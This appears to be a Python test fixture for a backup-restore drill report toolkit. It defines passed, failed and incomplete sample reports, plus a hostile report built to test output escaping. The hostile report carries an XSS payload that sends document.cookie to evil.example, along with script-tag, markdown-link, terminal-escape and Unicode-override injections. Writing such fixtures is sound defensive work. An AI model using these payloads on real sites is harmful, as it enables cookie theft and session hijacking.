"""Reports for the tests of drills: one of each kind, and one with everything that a hostile host could put into it."""

from dataclasses import replace

from toolkit.drill.report import Check, Loss, Phase, Report, Targets

PASSED = Report(
    host="prod",
    level=4,
    started="2026-03-01T03:00:00Z".replace("Z", "+00:00"),
    ended="2026-03-01T03:02:30+00:00",
    where="spare",
    who="ada@laptop",
    toolkit="1.0",
    snapshot="20260301T020000Z-00000042",
    digest="ab" * 32,
    taken="2026-03-01T02:00:00Z",
    outcome="complete",
    opened_with=("age1operator", "age1escrow"),
    phases=(
        Phase("open the snapshot", 0.8),
        Phase("signatures, chain and a share of the packs", 3.2, recovers=False),
        Phase("bring back the release", 1.4),
        Phase("fetch images", 21.0),
        Phase("load postgres/db", 33.5),
        Phase("prove postgres/db", 6.1, recovers=False),
        Phase("bring up the stack", 12.9),
        Phase("take the sandbox away", 4.0, recovers=False),
    ),
    checks=(
        Check("store", "signatures, chain, packs", "good", "42 snapshots opened"),
        Check("postgres/db", "app: pg_amcheck", "good", "every page and index is sound"),
        Check("postgres/db", "app: counts", "good", "7 counts, 12003 in total, as in the manifest"),
        Check("worker", "worker tried to reach out", "good", "refused: 93.184.216.34:443/tcp"),
    ),
    loss=Loss(3600.0, "2026-03-01T02:00:00Z"),
    targets=Targets(rto=120.0, rpo=86400.0),
    sizes={"stored": 734003200, "restored": 2147483648, "files": 18233},
    versions={"postgres/db": "PostgreSQL 17.5"},
)
FAILED = replace(
    PASSED,
    started="2026-02-01T03:00:00+00:00",
    checks=(*PASSED.checks, Check("postgres/db", "count of public.tasks", "bad", "expected 7, found 6")),
)
INCOMPLETE = replace(PASSED, started="2026-01-01T03:00:00+00:00", outcome="incomplete")

ATTACK = (
    "<script>fetch('https://evil.example/'+document.cookie)</script><img src=https://evil.example/x onerror=alert(1)>"
)
HOSTILE = replace(
    PASSED,
    snapshot=ATTACK,
    where=f'"{ATTACK}',
    phases=(Phase(f"load {ATTACK}", 5.0), Phase("</title></svg><script>alert(2)</script>", 3.0)),
    checks=(
        Check(
            ATTACK,
            "[link](https://evil.example) | cell | ![x](https://evil.example/y)",
            "good",
            f"line\n{ATTACK}\x1b[2J",
        ),
        Check("a\u202eb", "`x`", "unknown", "\udcff"),
    ),
    versions={ATTACK: "</style><script>alert(3)</script>"},
    sizes={"</svg><b>": 10},
)
